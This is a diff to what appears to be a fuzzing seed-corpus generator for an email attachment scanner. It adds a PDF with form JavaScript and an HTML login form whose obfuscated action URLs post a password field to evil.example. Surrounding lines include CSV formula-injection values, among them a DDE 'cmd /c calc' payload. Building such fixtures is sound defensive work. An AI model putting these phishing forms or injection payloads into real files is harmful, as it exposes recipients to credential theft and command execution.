@@ -6,7 +6,7 @@ on purpose, so that a corpus started from nothing reaches those paths within min
 hours: archives made by the real tools (zip nested 20 deep, Zip64, encrypted zip and 7z, a
 cabinet, tar, a zip behind a program), BinHex, a PNG with a zip after its end or in a
 chunk, opaque and detached S/MIME signatures (openssl cms), and hand-written messages for the
-text paths (hidden HTML, style sheets that hide, format=flowed, encoded classification headers, CSV formulas, yEnc,
+text paths (hidden HTML, style sheets that hide, HTML forms, PDF form scripts, format=flowed, encoded classification headers, CSV formulas, yEnc,
 uuencode, calendar attachments, message/partial, a message sent under another type, every
 filename form, an RTF object, Mailsploit's encoded From).
 
@@ -163,6 +163,17 @@ def text_messages() -> dict:
         "csv": multipart("csv", [attachment("sheet.csv",
             b'name,amount\r\n=HYPERLINK("http://evil.example","click"),1\r\n+cmd|\'/c calc\'!A0,2\r\n'
             b'=CONCAT("CONFI","DENTIAL"),3\r\n', "text/csv")]),
+        "pdf-form": multipart("pdf-form", [attachment("claim.pdf",
+            b"%PDF-1.4\n1 0 obj << /Type /Catalog /AcroForm << /Fields [ << /FT /Tx /T (Hours) /AA << "
+            b"/F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\\342\\202\\254\", true\\);) >> "
+            b"/C << /S/JavaScript/JS(AFSimple_Calculate\\(\"SUM\", new Array \\(\"A\", \"B\"\\)\\);) >> "
+            b"/K << /S /JavaScript /JS <FEFF00410046005300700065006300690061006C005F0046006F0072006D00610074002800300029003B> >> "
+            b">> >> ] >> /Names << /JavaScript 3 0 R >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n", "application/pdf")]),
+        "html-form-file": multipart("html-form-file", [attachment("login.html",
+            b'<html><head><base href="https:/login.example.net/"></head><body>'
+            b'<form data-action="/x" action = " ht&Tab;tps:\\\\evil.example/c"><input name=p>'
+            b'<button formaction=HTTPS:evil.example/b>Go</button></form>'
+            b'<a href="https://uni\non-example.org/">x</a></body></html>', "text/html")]),
         "uuencode": single("uuencode", "text/plain", "begin 644 run.exe\r\n(35J0`&%B8V1E\r\n`\r\nend\r\n"),
         "yenc": single("yenc", "text/plain", "=ybegin line=128 size=4 name=run.exe\r\nw\x84\xba*\r\n=yend size=4\r\n"),
         "calendar": single(
